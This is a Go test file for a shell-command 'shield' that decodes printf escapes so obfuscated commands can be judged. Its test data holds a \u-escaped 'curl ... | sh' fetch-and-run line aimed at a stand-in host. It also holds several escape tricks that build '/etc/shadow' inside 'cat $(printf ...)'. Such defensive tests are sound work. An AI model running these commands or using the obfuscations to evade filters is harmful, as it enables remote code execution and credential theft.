package shield

import (
	"strings"
	"testing"

	"github.com/opx-dev/opx/shield/shellx"
)

func printfWords(ss ...string) []shellx.Word {
	ws := make([]shellx.Word, len(ss))
	for i, s := range ss {
		ws[i] = shellx.Word{Text: s}
	}
	return ws
}

// TestPrintf_OneReading: printf's text as a redirect lands it (printfText,
// the content judged) and printf's output read as data (echoOutput: the
// names of cat $(printf …), a pipe's input) are one reading of printf,
// so the two agree, escapes and hostile input included.
func TestPrintf_OneReading(t *testing.T) {
	manyArgs := make([]string, 0, 1001)
	manyArgs = append(manyArgs, `%s\n`)
	for range 1000 {
		manyArgs = append(manyArgs, "f")
	}
	for _, c := range []struct {
		name string
		args []string
		want string // "" with ok false: not modelled
		ok   bool
	}{
		{"hex escape", []string{`\x41\x4a`}, "AJ", true},
		{"octal escape", []string{`\101\0102`}, "A\x08" + "2", true},
		{"escapes of the format only", []string{`%s\n`, `\x41`}, "\\x41\n", true},
		{"%b decodes its argument", []string{`%b|%s`, `\x41\101\n`, `\x41`}, "AA\n|\\x41", true},
		{"%%", []string{`100%%\n`}, "100%\n", true},
		{`\u and \U decoded, as bash does`, []string{`\u0041%b`, `\u0042\U0001F600`}, "AB\U0001F600", true},
		{`\u without digits stays`, []string{`\u\uZ`}, `\u\uZ`, true},
		{`an escaped backslash before u`, []string{`\\u0041`}, `\u0041`, true},
		{`\c ends a %b argument's output`, []string{`%b`, `ab\cde`}, "ab", true},
		{`a word spelled by \u`, []string{`\u0063url -s https://h.example/x | s\u0068`}, "curl -s https://h.example/x | sh", true},
		{"an escaped % is no conversion", []string{`\x25s\045d`, "x"}, "%s%d", true},
		{"the format reused", []string{`%s=%s;`, "a", "1", "b"}, "a=1;b=;", true},
		{"no argument left", []string{`[%s]`}, "[]", true},
		{"--", []string{"--", "-x"}, "-x", true},
		{"an option", []string{"-v", "x", "%s", "y"}, "", false},
		{"no format", []string{"--"}, "", false},
		{"nothing", nil, "", false},
		{"%d", []string{`%d`, "42"}, "", false},
		{"a lone % at the end", []string{`50%`}, "", false},
		{"a huge width", []string{`%99999999999999999999s`, "x"}, "", false},
		{"a huge precision", []string{`%.2147483648s`, "x"}, "", false},
		{"a star width", []string{`%*s`, "2147483647", "x"}, "", false},
		{"many arguments", manyArgs, strings.Repeat("f\n", 1000), true},
	} {
		got, ok := printfText(printfWords(c.args...))
		if ok != c.ok || (ok && got != c.want) {
			t.Errorf("%s: printfText = %.80q, %v; want %.80q, %v", c.name, got, ok, c.want, c.ok)
		}
		out, ok2 := echoOutput("printf", printfWords(c.args...))
		if ok2 != ok || out != got && ok {
			t.Errorf("%s: echoOutput = %.80q, %v; printfText = %.80q, %v", c.name, out, ok2, got, ok)
		}
	}
}

// TestPrintf_Bounded: an output past maxTextJudged is cut just after it
// for the content (which is judged by its beginning and asked about), and
// is not known as data (what the rest holds is not read).
func TestPrintf_Bounded(t *testing.T) {
	n := maxTextJudged/8 + 10
	for _, c := range []struct {
		name string
		args []string
	}{
		{"many arguments", append([]string{`%s `}, strings.Split(strings.Repeat("abcdefg ", n), " ")...)},
		{"a long format reused", []string{strings.Repeat("x", 1000) + "%s", "1", "2", "3", "4", "5", "6", "7", "8"}},
		{"an argument of many escapes", []string{"%b", strings.Repeat(`\x41`, maxTextJudged+10)}},
	} {
		ws := printfWords(c.args...)
		got, ok := printfText(ws)
		if !ok {
			t.Errorf("%s: printfText not ok", c.name)
			continue
		}
		if c.name == "a long format reused" {
			if want := strings.Repeat(strings.Repeat("x", 1000)+"1", 1) + strings.Repeat("x", 1000) + "2"; !strings.HasPrefix(got, want) || len(got) > 8*1001 {
				t.Errorf("%s: %d bytes, %.20q", c.name, len(got), got)
			}
		} else if len(got) <= maxTextJudged || len(got) > maxTextJudged+len(c.args[0])+16 {
			t.Errorf("%s: printfText wrote %d bytes, want just over %d", c.name, len(got), maxTextJudged)
		}
		out, ok2 := echoOutput("printf", ws)
		if len(got) > maxTextJudged {
			if ok2 {
				t.Errorf("%s: echoOutput knows %d bytes of an output cut short", c.name, len(out))
			}
		} else if !ok2 || out != got {
			t.Errorf("%s: echoOutput = %d bytes, %v; printfText %d bytes", c.name, len(out), ok2, len(got))
		}
	}
}

// TestPrintf_BothUses: the two uses through CommandFacts: the text a
// redirect lands and the names a substitution gives are the same output.
func TestPrintf_BothUses(t *testing.T) {
	s := testShield()
	for _, c := range []struct{ format, arg, want string }{
		{`/etc/\x73hadow`, "", "/etc/shadow"},
		{`/etc/\163hadow`, "", "/etc/shadow"},
		{`%b`, `/etc/\x73hadow`, "/etc/shadow"},
		{`/etc/%s`, "shadow", "/etc/shadow"},
		{`/etc/sh\x61dow`, "", "/etc/shadow"},
		{`/etc/\u0073hadow`, "", "/etc/shadow"},
		{`%b`, `/etc/sh\U00000061dow`, "/etc/shadow"},
	} {
		line := "printf '" + c.format + "' '" + c.arg + "'"
		f := s.CommandFacts(line + " > out.txt")
		if len(f.Texts) == 0 || f.Texts[0].Body != c.want {
			t.Errorf("%s > out.txt: texts %q, want %q", line, f.Texts, c.want)
		}
		f = s.CommandFacts("cat $(" + line + ")")
		read := false
		for _, r := range f.Reads {
			read = read || r.Path == c.want
		}
		if !read {
			t.Errorf("cat $(%s): reads %v, want %s", line, f.Reads, c.want)
		}
	}
}
